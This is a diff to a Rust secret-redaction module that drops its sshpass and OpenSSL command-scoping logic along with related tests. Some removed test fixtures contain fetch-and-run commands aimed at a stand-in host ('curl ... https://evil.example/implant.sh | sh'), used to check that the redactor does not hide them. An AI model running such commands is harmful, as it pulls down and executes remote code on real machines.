@@ -16,17 +16,11 @@
 //!   /run/secrets/x` names a file: it stays);
 //! - assignments to names containing `PASSWORD`/`PASSWD`, or `SECRET`/`TOKEN` after `_` or as the
 //!   name's first word, or ending in `_PASS`, `API_KEY`, `APIKEY` or `PRIVATE_KEY`, and
-//!   `MYSQL_PWD`, `SSHPASS` (`DB_PASSWORD=x`, `AWS_SECRET_ACCESS_KEY=x`, `GITHUB_TOKEN=x`,
-//!   `SECRET_KEY=x`, `RABBITMQ_DEFAULT_PASS=x`, `OPENAI_API_KEY=x`; not `TOKENIZER=x`, nor a name
-//!   ending in `_FILE`, which holds a path: `POSTGRES_PASSWORD_FILE=/run/secrets/db`);
+//!   `MYSQL_PWD` (`DB_PASSWORD=x`, `AWS_SECRET_ACCESS_KEY=x`, `GITHUB_TOKEN=x`, `SECRET_KEY=x`,
+//!   `RABBITMQ_DEFAULT_PASS=x`, `OPENAI_API_KEY=x`; not `TOKENIZER=x`, nor a name ending in
+//!   `_FILE`, which holds a path: `POSTGRES_PASSWORD_FILE=/run/secrets/db`);
 //! - curl's `-u USER:SECRET`, `--user USER:SECRET` (and `-U`, `--proxy-user`): what follows the
 //!   first colon;
-//! - sshpass's `-p SECRET`, `-pSECRET` among its options; OpenSSL's `pass:SECRET` after
-//!   `-passin`, `-passout`, `-pass` (`--passin`, `-passin=`), and its `-k SECRET` (`-k=`) and, in
-//!   an argv, a `-passin` value that names no source (`env:`, `file:`, `fd:`, `stdin`). Only where
-//!   the tool is the command (argv[0], after `;`, `&&`, `|`, `(`, `sh -c "`, or a wrapper such as
-//!   `sudo -u bob`, `env A=b`, `timeout 5`): to another command an argument naming it is a word
-//!   like any other (`curl -o /tmp/openssl -k URL`);
 //! - `Authorization: Bearer X` (and `Basic`, `Token`);
 //! - `scheme://user:SECRET@host` and `scheme://:SECRET@host`: the secret runs to the last `@`
 //!   before a `/` or a space, as curl and urllib read it (`https://bob:p@ss@h`).
@@ -97,106 +91,6 @@ enum Kind {
     Credentials,
 }
 
-/// A command that runs the one after its options (`sudo -u bob openssl ...`): its options that
-/// take a separate value (short letters, long names) and how many operands it reads before the
-/// command (`timeout 5 cmd`).
-#[derive(Debug)]
-struct Wrapper {
-    name: &'static str,
-    short: &'static [u8],
-    long: &'static [&'static str],
-    operands: u8,
-}
-
-const WRAPPERS: &[Wrapper] = &[
-    Wrapper {
-        name: "sudo",
-        short: b"CDRTUcghprtu",
-        long: &[
-            "chdir",
-            "chroot",
-            "close-from",
-            "command-timeout",
-            "group",
-            "host",
-            "login-class",
-            "other-user",
-            "prompt",
-            "role",
-            "type",
-            "user",
-        ],
-        operands: 0,
-    },
-    Wrapper { name: "doas", short: b"Cu", long: &[], operands: 0 },
-    Wrapper { name: "env", short: b"CSu", long: &["chdir", "split-string", "unset"], operands: 0 },
-    Wrapper { name: "timeout", short: b"ks", long: &["kill-after", "signal"], operands: 1 },
-    Wrapper { name: "nice", short: b"n", long: &["adjustment"], operands: 0 },
-    Wrapper { name: "nohup", short: b"", long: &[], operands: 0 },
-    Wrapper { name: "setsid", short: b"", long: &[], operands: 0 },
-    Wrapper { name: "stdbuf", short: b"eio", long: &["error", "input", "output"], operands: 0 },
-    Wrapper { name: "time", short: b"fo", long: &["format", "output"], operands: 0 },
-    Wrapper { name: "ionice", short: b"cn", long: &["class", "classdata"], operands: 0 },
-    Wrapper { name: "chroot", short: b"", long: &["groups", "userspec"], operands: 1 },
-    Wrapper { name: "gosu", short: b"", long: &[], operands: 1 },
-    Wrapper { name: "su-exec", short: b"", long: &[], operands: 1 },
-    Wrapper { name: "tini", short: b"ep", long: &[], operands: 0 },
-    Wrapper { name: "dumb-init", short: b"r", long: &["rewrite"], operands: 0 },
-];
-
-impl Wrapper {
-    /// Whether option `opt` takes the next argument as its value (`-u` of `sudo -u bob`, `-Eu`,
-    /// `--user`; not `-ubob`, `--user=bob`).
-    fn takes_value(&self, opt: &str) -> bool {
-        if let Some(long) = opt.strip_prefix("--") {
-            return self.long.contains(&long);
-        }
-        let b = opt.as_bytes();
-        // Short options together (`-Eu`): the first that takes a value takes the rest, or the
-        // next argument when it is last.
-        b.iter().skip(1).position(|c| self.short.contains(c)).is_some_and(|k| k + 2 == b.len())
-    }
-}
-
-/// Whether `arg` is a shell-style assignment (`A=b`), which `env` and `sudo` read before the
-/// command.
-fn assignment(arg: &str) -> bool {
-    arg.split_once('=').is_some_and(|(name, _)| {
-        name.bytes().next().is_some_and(|c| c.is_ascii_alphabetic() || c == b'_')
-            && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
-    })
-}
-
-/// A pattern for `tool` where a shell runs it: at the text's start, after `;`, `&`, `|`, `(`,
-/// `{`, `` ` ``, a line's end, Docker's `exec_start:`, the opening quote of a script
-/// (`sh -c "`), a shell keyword (`then`), or a wrapper with its options, assignments and
-/// operands (`sudo -u bob`, `env A=b`, `timeout -s KILL 5`). Not anywhere in the text: a tool's
-/// name may be another command's argument (`curl -o /tmp/sshpass -p URL`), and an option takes
-/// a separate value only if the wrapper's does (`sudo -E curl -o /tmp/sshpass` runs curl).
-fn command(tool: &str) -> String {
-    const WORD: &str = r"[^\s;&|]+";
-    let wrappers: Vec<String> = WRAPPERS
-        .iter()
-        .map(|w| {
-            let mut opts = vec![r"-[^\s;&|]*".to_owned(), r"[A-Za-z_][A-Za-z0-9_]*=[^\s;&|]*".to_owned()];
-            if !w.short.is_empty() {
-                opts.push(format!(r"-[A-Za-z]*[{}]\s+{WORD}", std::str::from_utf8(w.short).unwrap_or("")));
-            }
-            if !w.long.is_empty() {
-                opts.push(format!(r"--(?:{})\s+{WORD}", w.long.join("|")));
-            }
-            let opts = format!(r"(?:\s+(?:{}))*", opts.join("|"));
-            let operands = format!(r"\s+{WORD}{opts}").repeat(w.operands.into());
-            format!("{}{opts}{operands}", w.name)
-        })
-        .chain(["(?:exec|command|if|then|else|elif|do|while|until|!)".to_owned()])
-        .collect();
-    format!(
-        r#"(?:^|[;&|(`{{\n]|\$\(|\bexec_(?:create|start):|\s-[A-Za-z]*c\s+\$?['"])\s*(?:(?:[^\s;&|'"]*/)?(?:{})\s+)*(?:[^\s;&|'"]*/)?{tool}\b"#,
-        wrappers.join("|"),
-    )
-}
-
 /// The built-in text patterns.
 fn builtin() -> Vec<(String, Kind)> {
     vec![
@@ -207,23 +101,15 @@ fn builtin() -> Vec<(String, Kind)> {
             Kind::Word,
         ),
         (
-            r"(?i)\b(?P<env>[A-Z0-9_]*PASS(?:WORD|WD)[A-Z0-9_]*|[A-Z0-9_]*_(?:SECRET|TOKEN)[A-Z0-9_]*|(?:SECRET|TOKEN)(?:_[A-Z0-9_]*)?|[A-Z0-9_]*_PASS|MYSQL_PWD|SSHPASS|[A-Z0-9_]*API_?KEY|[A-Z0-9_]*PRIVATE_KEY)=(?P<v>\S)"
+            r"(?i)\b(?P<env>[A-Z0-9_]*PASS(?:WORD|WD)[A-Z0-9_]*|[A-Z0-9_]*_(?:SECRET|TOKEN)[A-Z0-9_]*|(?:SECRET|TOKEN)(?:_[A-Z0-9_]*)?|[A-Z0-9_]*_PASS|MYSQL_PWD|[A-Z0-9_]*API_?KEY|[A-Z0-9_]*PRIVATE_KEY)=(?P<v>\S)"
                 .to_owned(),
             Kind::Word,
         ),
         (r"\b(?i:curl)\b[^;&|\n]*?\s(?:-[uU]\s*|--(?:proxy-)?user(?:=|\s+))(?P<v>\S)".to_owned(), Kind::Credentials),
-        // sshpass's `-p X` and `-pX` among its options, before the command it runs (whose `-p`
-        // is its own: `sshpass -f pw ssh -p 2222 h`).
-        (
-            format!(r"{}(?:\s+-[ehvV]+|\s+-[ehvV]*[fdP]\s*[^\s;&|]+)*\s+-[ehvV]*p\s*(?P<v>\S)", command("sshpass")),
-            Kind::Word,
-        ),
-        // OpenSSL's `-passin pass:X` (`-passout`, `-pass`, `--passin`, `-passin=`), after any
-        // command (`pass:` says what it is); its other sources, `env:`, `file:`, `fd:`, name
-        // where the secret is, not the secret. `-k X` (`openssl enc`) only in OpenSSL's own
-        // arguments: to curl, `-k` is a flag (`curl -o /tmp/openssl -k https://x`).
-        (r"(?:^|\s)--?pass(?:in|out)?(?:=|\s+)pass:(?P<v>\S)".to_owned(), Kind::Word),
-        (format!(r"{}[^;&|\n]*?\s--?k(?:=|\s+)(?P<v>\S)", command("openssl")), Kind::Word),
+        // sshpass's `-p X` and `-pX`; OpenSSL's `-passin pass:X` (`-passout`, `-pass`; its other
+        // sources, `env:`, `file:`, `fd:`, name where the secret is, not the secret).
+        (r"\b(?i:sshpass)\b[^;&|\n]*?\s-p\s*(?P<v>\S)".to_owned(), Kind::Word),
+        (r"(?:^|\s)-pass(?:in|out)?\s+pass:(?P<v>\S)".to_owned(), Kind::Word),
         (r#"(?i)\bauthorization:\s*(?:bearer|basic|token)\s+([^\s'";]+)"#.to_owned(), Kind::Group),
         (r"(?i)\b[a-z][a-z0-9+.-]*://[^/\s:]*:([^/\s]+)@".to_owned(), Kind::Group),
     ]
@@ -261,15 +147,14 @@ const OPTION_WORDS: &[&str] = &["pass", "token", "secret", "apikey", "api-key", 
 /// The words `may_hold_builtin` looks for, in any ASCII case: `OPTION_WORDS`, then these.
 const CURL: usize = OPTION_WORDS.len();
 const AUTHORIZATION: usize = CURL + 1;
-const OPENSSL: usize = CURL + 2;
 
-/// Which of the words (`OPTION_WORDS`, "curl", "authorization:", "openssl") `hay` holds, in any
-/// ASCII case, as bits by index (one pass); all of them if the searcher could not be built.
+/// Which of the words (`OPTION_WORDS`, "curl", "authorization:") `hay` holds, in any ASCII
+/// case, as bits by index (one pass); all of them if the searcher could not be built.
 fn words_in(hay: &[u8]) -> u32 {
     static WORDS: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> = std::sync::LazyLock::new(|| {
         aho_corasick::AhoCorasick::builder()
             .ascii_case_insensitive(true)
-            .build(OPTION_WORDS.iter().copied().chain(["curl", "authorization:", "openssl"]))
+            .build(OPTION_WORDS.iter().copied().chain(["curl", "authorization:"]))
             .ok()
     });
     match &*WORDS {
@@ -279,9 +164,8 @@ fn words_in(hay: &[u8]) -> u32 {
 }
 
 /// Whether `text` may hold a secret of the built-in patterns, from what each needs: `-p`
-/// (MySQL clients, sshpass), `--` or `-` with a secret option's word (secret options), `=`
-/// (assignments), `-u`/`-U` with `curl` (curl's credentials), `-` with `openssl` (`-k X`),
-/// `://` with `@` (a URL's password)
+/// (MySQL clients), `--` or `-` with a secret option's word (secret options), `=`
+/// (assignments), `-u`/`-U` with `curl` (curl's credentials), `://` with `@` (a URL's password)
 /// or `authorization:` in any case (a header; any non-ASCII text is left to the patterns, whose
 /// case folding is Unicode's). Most arguments have none of them (`/bin/true`, a path, a word,
 /// `-c`, `name-1`), and skipping the patterns for them saves a regular-expression scan per
@@ -305,7 +189,7 @@ fn may_hold_builtin(text: &str) -> bool {
         return dash || colon;
     }
     let words = words_in(b);
-    (dash && words & (((1 << OPTION_WORDS.len()) - 1) | (1 << OPENSSL)) != 0)
+    (dash && words & ((1 << OPTION_WORDS.len()) - 1) != 0)
         || ((has(b"-u") || has(b"-U")) && words & 1 << CURL != 0)
         || (colon && words & 1 << AUTHORIZATION != 0)
 }
@@ -586,108 +470,12 @@ fn before(text: &str, i: usize) -> usize {
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum Next {
     Plain,
-    /// The value of a wrapper's or sshpass's option (`sudo -u bob`), not a secret: not the
-    /// command either.
-    Value,
     /// The value of a secret option (`--password X`).
     Secret,
     /// curl's `USER:SECRET` (`-u X`).
     Credentials,
-    /// OpenSSL's pass phrase argument (`-passin X`): `pass:SECRET`, where the secret is
-    /// (`env:VAR`), or, in OpenSSL's own arguments (`bare`), anything else as the secret.
-    OpensslPass {
-        bare: bool,
-    },
-}
-
-/// Whose arguments an argv's argument is, for `Redactor::args`: sshpass's and OpenSSL's
-/// options are theirs only (`-p`, `-k`), not another command's that names them
-/// (`curl -o /tmp/openssl -k URL`).
-#[derive(Debug, Clone, Copy)]
-enum Scope {
-    /// The argument is a command (argv[0], what a wrapper runs).
-    Command,
-    /// A wrapper's options, assignments and operands (those still to come) before its command.
-    Wrapper(&'static Wrapper, u8),
-    /// sshpass's options, before the command it runs.
-    Sshpass,
-    /// OpenSSL's arguments, to the end.
-    Openssl,
-    /// Another command's arguments, to the end.
-    Other,
-}
-
-impl Scope {
-    /// The scope of argument `a` (`base` its basename), read after one in `self`.
-    fn of(self, a: &str, base: &str) -> Scope {
-        match self {
-            Scope::Command => match base {
-                "sshpass" => Scope::Sshpass,
-                "openssl" => Scope::Openssl,
-                _ => WRAPPERS.iter().find(|w| w.name == base).map_or(Scope::Other, |w| Scope::Wrapper(w, w.operands)),
-            },
-            Scope::Wrapper(w, left) => {
-                if a == "--" {
-                    if left == 0 { Scope::Command } else { self }
-                } else if (a.len() > 1 && a.starts_with('-')) || assignment(a) {
-                    self
-                } else if left > 0 {
-                    Scope::Wrapper(w, left - 1)
-                } else {
-                    Scope::Command.of(a, base)
-                }
-            }
-            Scope::Sshpass if a == "--" => Scope::Command,
-            Scope::Sshpass if !(a.len() > 1 && a.starts_with('-')) => Scope::Command.of(a, base),
-            s => s,
-        }
-    }
-}
-
-/// One of sshpass's options (`-p X`, `-pX`, `-f FILE`, `-v`), `-p`'s value replaced.
-fn sshpass_option(a: &str, next: &mut Next) -> Option<String> {
-    let b = a.as_bytes();
-    // Short options together (`-vp X`): the first that takes a value takes the rest.
-    let k = b.iter().skip(1).position(|c| b"fdpP".contains(c))? + 1;
-    if k + 1 == b.len() {
-        *next = if b[k] == b'p' { Next::Secret } else { Next::Value };
-        return None;
-    }
-    (b[k] == b'p' && &a[k + 1..] != MARK).then(|| format!("{}{MARK}", &a[..=k]))
-}
-
-/// OpenSSL's pass phrase options as OpenSSL reads them (`-passin`, `--passin`, `-passin=X`,
-/// `-passout`, `-pass`; `-k`, `openssl enc`'s pass phrase itself): `None` when `a` is none of
-/// them, else what `a` becomes.
-fn openssl_option(a: &str, next: &mut Next) -> Option<Option<String>> {
-    let opt = a.strip_prefix("--").or_else(|| a.strip_prefix('-'))?;
-    let (name, at) = match opt.split_once('=') {
-        Some((name, value)) => (name, Some(a.len() - value.len())),
-        None => (opt, None),
-    };
-    let k = name == "k";
-    if !k && !matches!(name, "passin" | "passout" | "pass") {
-        return None;
-    }
-    Some(match at {
-        None => {
-            *next = if k { Next::Secret } else { Next::OpensslPass { bare: true } };
-            None
-        }
-        Some(at) if k => (at < a.len() && &a[at..] != MARK).then(|| format!("{}{MARK}", &a[..at])),
-        Some(at) => openssl_pass(a, at, true),
-    })
-}
-
-/// `arg` with OpenSSL's pass phrase from `at` (`pass:X`, or with `bare` any value that does not
-/// say where the secret is) replaced; `None` when it has no secret there.
-fn openssl_pass(arg: &str, at: usize, bare: bool) -> Option<String> {
-    let value = arg.get(at..)?;
-    if let Some(v) = value.strip_prefix("pass:") {
-        return (!v.is_empty() && v != MARK).then(|| format!("{}pass:{MARK}", &arg[..at]));
-    }
-    let source = ["env:", "file:", "fd:"].iter().any(|p| value.starts_with(p)) || value == "stdin";
-    (bare && !source && !value.is_empty() && value != MARK).then(|| format!("{}{MARK}", &arg[..at]))
+    /// OpenSSL's pass phrase argument (`-passin X`): `pass:SECRET`, or where the secret is.
+    OpensslPass,
 }
 
 /// `arg` with what follows its first colon from `at` replaced (`USER:SECRET`); `None` when it has
@@ -757,47 +545,41 @@ impl Redactor {
     /// Redacts an argv in place; whether anything was replaced. Besides the text patterns
     /// (within each argument): the value of a secret option, as the rest of its argument
     /// (`--password=a b`) or as the next argument (`--password X`, `--db-password X`,
-    /// `-token X`); `-pX` after an argument naming a MySQL client (`sudo mysql -pX`); sshpass's
-    /// `-p X` and `-pX` among its options; OpenSSL's `-passin pass:X` (`-passout`, `-pass`) and,
-    /// in OpenSSL's own arguments, `-passin X`, `-passin=X` and `-k X`; curl's `-u USER:X`,
-    /// `-uUSER:X`, `--user USER:X`, `--user=USER:X` (and `-U`, `--proxy-user`) after an argument
-    /// naming curl. sshpass and OpenSSL are commands (argv[0], or what a wrapper runs: `sudo -u
-    /// bob openssl`, `timeout 5 sshpass`), not any argument that names them.
+    /// `-token X`); `-pX` after an argument naming a MySQL client (`sudo mysql -pX`) or sshpass
+    /// (and sshpass's `-p X`); OpenSSL's `-passin pass:X` (`-passout`, `-pass`) and `-k X`; curl's
+    /// `-u USER:X`, `-uUSER:X`, `--user USER:X`, `--user=USER:X` (and `-U`, `--proxy-user`)
+    /// after an argument naming curl.
     pub fn args(&self, args: &mut [String]) -> bool {
         let mut changed = false;
-        let (mut mysql, mut curl) = (false, false);
-        let mut scope = Scope::Command;
+        let (mut mysql, mut curl, mut sshpass, mut openssl) = (false, false, false, false);
         let mut next = Next::Plain;
         for a in args.iter_mut() {
             let new = match std::mem::replace(&mut next, Next::Plain) {
                 Next::Secret => (a.as_str() != MARK).then(|| MARK.to_owned()),
                 Next::Credentials => credentials(a, 0),
-                Next::OpensslPass { bare } => openssl_pass(a, 0, bare),
-                Next::Value => self.arg(a, curl),
+                Next::OpensslPass => match a.strip_prefix("pass:") {
+                    Some(v) if !v.is_empty() && v != MARK => Some(format!("pass:{MARK}")),
+                    _ => None,
+                },
                 Next::Plain => {
                     let base = crate::procs::basename(a);
                     mysql |= MYSQL_CLIENTS.contains(&base);
                     curl |= base == "curl";
-                    scope = scope.of(a, base);
-                    let option = a.len() > 1 && a.starts_with('-') && a != "--";
-                    if option && matches!(scope, Scope::Sshpass) {
-                        sshpass_option(a, &mut next)
-                    } else if option
-                        && let Scope::Wrapper(w, _) = scope
-                        && w.takes_value(a)
-                    {
-                        next = Next::Value;
-                        self.arg(a, curl)
-                    } else if matches!(scope, Scope::Openssl)
-                        && let Some(new) = openssl_option(a, &mut next)
-                    {
-                        new
-                    } else if mysql && a.starts_with("-p") && !a.starts_with("--") {
-                        // `-pX`: a password (MySQL's `-p` alone asks for one).
+                    sshpass |= base == "sshpass";
+                    openssl |= base == "openssl";
+                    if (mysql || sshpass) && a.starts_with("-p") && !a.starts_with("--") {
+                        // `-pX`: a password (MySQL's `-p` alone asks for one; sshpass's takes
+                        // the next argument).
+                        if sshpass && a == "-p" {
+                            next = Next::Secret;
+                        }
                         (a.len() > 2 && &a[2..] != MARK).then(|| format!("-p{MARK}"))
-                    } else if matches!(a.as_str(), "-passin" | "-passout" | "--passin" | "--passout") {
-                        // `pass:X` says what it is after any command (`xargs openssl ...`).
-                        next = Next::OpensslPass { bare: false };
+                    } else if openssl && matches!(a.as_str(), "-passin" | "-passout" | "-pass") {
+                        next = Next::OpensslPass;
+                        None
+                    } else if openssl && a == "-k" {
+                        // `openssl enc -k X`: the pass phrase itself.
+                        next = Next::Secret;
                         None
                     } else {
                         if secret_option(a) {
@@ -1009,13 +791,6 @@ mod tests {
         }
     }
 
-    fn assert_plain_texts(texts: &[&str]) {
-        let r = Redactor::new(&[]).unwrap();
-        for plain in texts {
-            assert_eq!(r.text(plain), *plain);
-        }
-    }
-
     #[test]
     fn a_url_password_needs_no_user_and_runs_to_the_last_at() {
         assert_argvs(&[
@@ -1127,152 +902,8 @@ mod tests {
         assert_plain(&[
             &["openssl", "rsa", "-in", "k.pem", "-passin", "env:KEY_PASS"],
             &["openssl", "rsa", "-in", "k.pem", "-passin", "file:/run/secrets/k"],
-            &["openssl", "rsa", "-passin=env:KEY_PASS", "--passout", "fd:3", "-pass", "stdin"],
             &["sshpass", "-f", "/run/secrets/p", "ssh", "h"],
             &["ssh", "-p", "2222", "h"],
-        ]);
-    }
-
-    #[test]
-    fn openssl_pass_phrases_in_every_spelling_openssl_reads() {
-        assert_argvs(&[
-            (
-                &["openssl", "rsa", "-in", "k.pem", "-passin=pass:hunter2"],
-                &["openssl", "rsa", "-in", "k.pem", "-passin=pass:[REDACTED]"],
-                "hunter2",
-            ),
-            (
-                &["openssl", "rsa", "--passin", "pass:hunter2"],
-                &["openssl", "rsa", "--passin", "pass:[REDACTED]"],
-                "hunter2",
-            ),
-            (&["openssl", "enc", "-k=hunter2"], &["openssl", "enc", "-k=[REDACTED]"], "hunter2"),
-            (&["openssl", "enc", "--k", "hunter2"], &["openssl", "enc", "--k", "[REDACTED]"], "hunter2"),
-            // No source: a mistyped pass phrase, the secret itself.
-            (&["openssl", "rsa", "-passin", "hunter2"], &["openssl", "rsa", "-passin", "[REDACTED]"], "hunter2"),
-            (&["openssl", "req", "-passout=hunter2"], &["openssl", "req", "-passout=[REDACTED]"], "hunter2"),
-            // After a wrapper and its options, OpenSSL's own.
-            (
-                &["sudo", "-E", "-u", "bob", "openssl", "enc", "-k", "hunter2"],
-                &["sudo", "-E", "-u", "bob", "openssl", "enc", "-k", "[REDACTED]"],
-                "hunter2",
-            ),
-            (
-                &["timeout", "-s", "KILL", "5", "/usr/bin/openssl", "enc", "-k", "hunter2"],
-                &["timeout", "-s", "KILL", "5", "/usr/bin/openssl", "enc", "-k", "[REDACTED]"],
-                "hunter2",
-            ),
-            // `pass:X` says what it is after any command.
-            (
-                &["xargs", "openssl", "rsa", "-passin", "pass:hunter2"],
-                &["xargs", "openssl", "rsa", "-passin", "pass:[REDACTED]"],
-                "hunter2",
-            ),
-            // An argument naming openssl is not OpenSSL: `-pass` is a secret option again.
-            (
-                &["tool", "--cert-dir", "/opt/openssl", "-pass", "hunter2"],
-                &["tool", "--cert-dir", "/opt/openssl", "-pass", "[REDACTED]"],
-                "hunter2",
-            ),
-        ]);
-        assert_texts(&[
-            ("openssl rsa -in k.pem -passin=pass:hunter2", "openssl rsa -in k.pem -passin=pass:[REDACTED]", "hunter2"),
-            ("openssl rsa --passin pass:hunter2", "openssl rsa --passin pass:[REDACTED]", "hunter2"),
-            ("openssl enc -k=hunter2 -in f", "openssl enc -k=[REDACTED] -in f", "hunter2"),
-            (
-                "exec_start: sh -c \"cd /x && openssl enc -aes256 -k hunter2 -in f\"",
-                "exec_start: sh -c \"cd /x && openssl enc -aes256 -k [REDACTED] -in f\"",
-                "hunter2",
-            ),
-            (
-                "sudo -u bob timeout 5 openssl enc -k 'hun ter2'",
-                "sudo -u bob timeout 5 openssl enc -k [REDACTED]",
-                "ter2",
-            ),
-        ]);
-        assert_plain(&[
-            &["curl", "-k", "https://x"],
-            &["openssl", "s_client", "-connect", "h:443", "-keylogfile", "k"],
-        ]);
-        assert_plain_texts(&[
-            "curl -k https://x",
-            "openssl enc -kfile /run/secrets/k -in f",
-            "openssl enc -passin env:KEY_PASS",
-        ]);
-    }
-
-    #[test]
-    fn sshpass_and_openssl_options_are_theirs_only() {
-        // A tool's name as another command's argument: its options are not the tool's, and
-        // hiding them would hide what the command fetches.
-        assert_plain(&[
-            &["curl", "-o", "/tmp/openssl", "-k", "https://evil.example/implant.sh"],
-            &["curl", "-o", "/tmp/sshpass", "-p", "https://evil.example/implant.sh"],
-            // sshpass's options end at the command it runs: `-p` is ssh's port.
-            &["sshpass", "-f", "pw", "ssh", "-p", "2222", "h"],
-            &["sshpass", "-e", "-P", "assword:", "ssh", "-p", "2222", "h"],
-            &["sudo", "sshpass", "-d", "3", "scp", "-P", "2222", "a", "h:b"],
-            &["sudo", "-E", "curl", "-o", "/tmp/openssl", "-k", "https://evil.example/x"],
-        ]);
-        assert_plain_texts(&[
-            "exec_start: curl -o /tmp/sshpass -p https://evil.example/implant.sh",
-            "exec_start: sh -c \"curl -o /tmp/openssl -k https://evil.example/implant.sh | sh\"",
-            "curl -o sshpass -p https://evil.example/x",
-            // `-E` takes no value: curl is the command.
-            "sudo -E curl -o /tmp/sshpass -p https://evil.example/x",
-            "sudo -E curl -o /tmp/openssl -k https://evil.example/x",
-            "sshpass -f pw ssh -p 2222 h",
-            "exec_create: sshpass -e ssh -p 2222 h",
-        ]);
-        assert_argvs(&[
-            (
-                &["sshpass", "-p", "hunter2", "ssh", "-p", "2222", "h"],
-                &["sshpass", "-p", "[REDACTED]", "ssh", "-p", "2222", "h"],
-                "hunter2",
-            ),
-            (&["sshpass", "-v", "-phunter2", "ssh", "h"], &["sshpass", "-v", "-p[REDACTED]", "ssh", "h"], "hunter2"),
-            (&["sshpass", "-vp", "hunter2", "ssh", "h"], &["sshpass", "-vp", "[REDACTED]", "ssh", "h"], "hunter2"),
-            (
-                &["env", "SSHPASS=hunter2", "sshpass", "-e", "ssh", "h"],
-                &["env", "SSHPASS=[REDACTED]", "sshpass", "-e", "ssh", "h"],
-                "hunter2",
-            ),
-            (
-                &["nice", "-n", "5", "nohup", "sshpass", "-P", "pw:", "-p", "hunter2", "ssh", "h"],
-                &["nice", "-n", "5", "nohup", "sshpass", "-P", "pw:", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            (
-                &["gosu", "app", "sshpass", "-p", "hunter2", "ssh", "h"],
-                &["gosu", "app", "sshpass", "-p", "[REDACTED]", "ssh", "h"],
-                "hunter2",
-            ),
-            // What sshpass runs is a command again.
-            (
-                &["sshpass", "-e", "sudo", "openssl", "enc", "-k", "hunter2"],
-                &["sshpass", "-e", "sudo", "openssl", "enc", "-k", "[REDACTED]"],
-                "hunter2",
-            ),
-        ]);
-        assert_texts(&[
-            ("SSHPASS=hunter2 sshpass -e ssh h", "SSHPASS=[REDACTED] sshpass -e ssh h", "hunter2"),
-            (
-                "exec_start: sh -c \"cd /x; sudo -u bob sshpass -v -p hunter2 ssh -p 2222 h\"",
-                "exec_start: sh -c \"cd /x; sudo -u bob sshpass -v -p [REDACTED] ssh -p 2222 h\"",
-                "hunter2",
-            ),
-            (
-                "ls | env A=b /usr/bin/sshpass -phunter2 ssh h",
-                "ls | env A=b /usr/bin/sshpass -p[REDACTED] ssh h",
-                "hunter2",
-            ),
-            ("gosu app sshpass -p hunter2 ssh h", "gosu app sshpass -p [REDACTED] ssh h", "hunter2"),
-            ("if sshpass -p hunter2 ssh h; then :; fi", "if sshpass -p [REDACTED] ssh h; then :; fi", "hunter2"),
-            (
-                "sudo -Eu bob env -u A B=c nice -n 5 openssl enc -k hunter2",
-                "sudo -Eu bob env -u A B=c nice -n 5 openssl enc -k [REDACTED]",
-                "hunter2",
-            ),
         ]);
     }
 
@@ -1413,9 +1044,6 @@ mod tests {
             "--token=$(x ".repeat(n / 12),
             format!("sh -c 'x {}", "\"--token=a b ".repeat(n / 14)),
             format!("bash -c \"x {}", "\\\"DB_PASSWORD=a ".repeat(n / 18)),
-            format!("{}sshpass -p x", "sudo -u x env A=b ".repeat(n / 18)),
-            "openssl enc -k x; sshpass -p y; ".repeat(n / 32),
-            "sshpass -f a -e -P b ".repeat(n / 20),
         ];
         let start = std::time::Instant::now();
         for t in &texts {
@@ -1435,7 +1063,6 @@ mod tests {
                     proptest::sample::select(vec![
                         "--password", "=", "-p", "mysql", "curl", "-u", "bob:", "://", ":", "@", "'", "\"", "$'", "\\",
                         "`", "$(", ")", " ", ";", "|", "DB_PASSWORD=", "Authorization: Bearer ", "-token", "é", "ſ", "…",
-                        "openssl", "sshpass", "sudo", "-k", "-passin", "pass:", "-f", "=",
                         "[REDACTED]",
                     ]).prop_map(str::to_owned),
                     ".{0,6}",
@@ -1472,7 +1099,6 @@ mod tests {
                         "-token", "TOKEN", "-Secret", "api-key", "ApiKey", "api_KEY", "-apikey", "_pass", "DB_PASS", "-pass",
                         "MYSQL_PWD", "PRIVATE_KEY", "_FILE", "no-", "curl", "CURL", "-u", "-U", "--user", "--proxy-user",
                         "bob:", "redis://:", "p@ss@", "$'", "\\", "\\\"", ";", "|", "&", "(", "<", "db-password",
-                        "openssl", "OpenSSL", "-k", "sshpass", "SSHPASS", "-vp", "-passin=", "pass:", "exec_start:", "-c ",
                     ]).prop_map(str::to_owned),
                     "[^=]{0,8}",
                 ],
